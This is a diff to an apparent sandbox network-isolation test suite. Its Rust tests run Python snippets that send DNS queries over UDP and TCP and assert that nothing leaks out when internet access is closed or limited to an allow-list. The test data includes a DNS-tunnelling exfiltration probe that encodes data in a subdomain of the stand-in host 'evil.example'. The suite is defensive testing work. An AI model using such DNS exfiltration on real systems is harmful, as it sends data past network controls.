@@ -267,7 +267,7 @@ def ask(server, name, kind=1, over="udp"):
     text = question(name, kind)
     try:
         with socket.socket(socket.AF_INET, socket.SOCK_DGRAM if over == "udp" else socket.SOCK_STREAM) as s:
-            s.settimeout(3)
+            s.settimeout(2)
             s.connect((server, 53))
             s.send(text if over == "udp" else struct.pack("!H", len(text)) + text)
             if over == "udp": answer = s.recv(512)
@@ -287,31 +287,25 @@ fn names_carry_nothing_out_where_nothing_or_only_names_may_be_reached() {
         // A (1), NS, CNAME, NULL, TXT and AAAA; its own server and others, which would answer.
         let program = format!(
             r#"
-def all(name):
-    own = {{ask("169.254.0.22", name, kind, over) for kind in (1, 2, 5, 10, 16, 28) for over in ("udp", "tcp")}}
-    others = {{ask("{RESOLVER}", name, kind, over) for kind in (1, 16) for over in ("udp", "tcp")}}
-    return sorted(own), sorted(others)
-print(all("aGVsbG8.secret.evil.example"), all("good.example")[0])
+name = "aGVsbG8.secret.evil.example"
+own = {{ask("169.254.0.22", name, kind, over) for kind in (1, 2, 5, 10, 16, 28) for over in ("udp", "tcp")}}
+others = {{ask("{RESOLVER}", name, kind, over) for kind in (1, 16) for over in ("udp", "tcp")}}
+print(*own, *others, ask("169.254.0.22", "good.example"))
 "#
         );
         let open = create(place, json!({}));
-        // Others are anybody in the internet: over TCP what listens there is no name server.
-        let told = say(&open, &program);
-        assert!(told.contains("'answer'"), "{told}");
-        assert!(!told.contains("'refused'"), "{told}");
+        let secret = "print(ask('169.254.0.22', 'secret.evil.example', 16))";
+        assert_eq!(say(&open, secret), "answer");
         let at_resolver = format!("print(ask('{RESOLVER}', 'a.example'), tcp('{RESOLVER}', 53))");
         assert_eq!(say(&open, &at_resolver), "answer internet");
 
         let closed = create(place, json!({ "allow_internet_access": false }));
-        let none = "(['refused'], ['nobody']) ['refused']";
-        assert_eq!(say(&closed, &program), none);
+        assert_eq!(say(&closed, &program), "refused nobody refused");
 
         let rules =
             json!({ "network": { "allowOut": ["good.example"], "denyOut": ["0.0.0.0/0"] } });
         let names = create(place, rules);
-        let told = say(&names, &program);
-        assert!(told.starts_with("(['refused'], ['nobody']) "), "{told}");
-        assert!(told.contains("answer"), "{told}");
+        assert_eq!(say(&names, &program), "refused nobody answer");
         // Nor hidden in one that is allowed: as two questions, as another class, or behind what a server would cut off.
         let hidden = r#"
 def raw(text):
